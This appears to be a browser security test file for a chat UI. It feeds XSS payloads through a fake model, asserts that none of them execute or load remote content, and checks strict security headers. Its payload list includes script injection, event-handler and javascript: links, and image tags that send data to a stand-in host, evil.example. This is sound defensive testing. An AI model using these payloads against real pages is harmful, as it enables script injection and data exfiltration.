"""The page against hostile model output (Debian's chromium via Playwright), and its headers.

The fake upstream echoes the first six words of the question, so each XSS payload sent as a
question comes back as model output. Nothing may execute (``window.__xss`` stays undefined,
no dialog opens), no link keeps a script URL, and no request leaves loopback (a Markdown image
pointing at a remote host must not load).
"""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlsplit

import httpx2 as httpx
import pytest
from playwright.sync_api import Dialog

from tests.browser.pw import browser, open_chat, send, wait_answer_done
from tests.support.stack import Stack

PAYLOADS = [
    "<script>window.__xss=1;alert(1)</script>",
    "<img src=x onerror=window.__xss=2>",
    "<svg/onload=window.__xss=3>",
    "[click](javascript:window.__xss=4)",
    "[obfuscated](jav&#x61;script:window.__xss=5)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![exfil](https://evil.example/steal.png?c=secret)",
    "![relative](//evil.example/pixel.gif)",
    "<iframe src=https://evil.example/frame></iframe>",
    '<a href="javascript:window.__xss=6">html-link</a>',
    "<img src=https://evil.example/raw.png>",
    "<style>@import url(https://evil.example/x.css)</style>",
]
LOOPBACK = {"127.0.0.1", "localhost"}


@pytest.mark.browser
def test_hostile_model_output_runs_nothing_and_loads_nothing_remote(
    stack: Stack, tmp_path: Path
) -> None:
    with browser(tmp_path / "profile") as context:
        requests: list[str] = []
        dialogs: list[str] = []
        context.on("request", lambda r: requests.append(r.url))

        def on_dialog(dialog: Dialog) -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        page, _ = open_chat(context, stack.ui.url)
        page.on("dialog", on_dialog)
        for i, payload in enumerate(PAYLOADS, start=1):
            send(page, payload)
            wait_answer_done(page, count=i)
        page.wait_for_timeout(500)
        # The payloads did come back in the model's output (the test exercises the renderer).
        shown = page.locator(".msg-assistant").all_inner_texts()
        assert any("evil.example" in t or "exfil" in t for t in shown), shown
        assert page.evaluate("() => window.__xss") is None
        assert dialogs == []
        for root in (".msg-assistant .msg-content", ".msg-user .msg-content"):
            messages = page.locator(root)
            assert messages.count() == len(PAYLOADS), root
            assert messages.locator("script, iframe, svg, style, object, embed").count() == 0
            hrefs = messages.locator("a").evaluate_all("els => els.map(e => e.href || '')")
            assert not [h for h in hrefs if h.strip().lower().startswith(
                ("javascript:", "data:", "vbscript:"))], hrefs
            srcs = messages.locator("img").evaluate_all("els => els.map(e => e.src)")
            assert not [s for s in srcs if urlsplit(s).hostname not in LOOPBACK], srcs
        remote = [u for u in requests
                  if urlsplit(u).scheme not in ("data", "blob")
                  and urlsplit(u).hostname not in LOOPBACK]
        assert remote == [], remote


def test_page_security_headers_and_strict_csp(stack: Stack) -> None:
    with httpx.Client(timeout=10) as http:
        for path in ("/", "/config.json", "/no-such-page"):
            r = http.get(stack.ui.url + path)
            h = r.headers
            assert h["X-Content-Type-Options"] == "nosniff", path
            assert h["X-Frame-Options"] == "DENY", path
            assert h["Referrer-Policy"] == "no-referrer", path
            csp = {
                d.split()[0]: d.split()[1:]
                for d in (part.strip() for part in h["Content-Security-Policy"].split(";"))
                if d
            }
            assert csp["default-src"] == ["'none'"]
            assert csp["script-src"] == ["'self'"]
            assert csp["frame-ancestors"] == ["'none'"]
            assert csp["base-uri"] == ["'none'"]
            for directive in ("script-src", "style-src", "img-src"):
                values = csp[directive]
                assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "http:", "https:"} & set(
                    values
                ), (directive, values)
        assert http.get(stack.ui.url + "/").status_code == 200
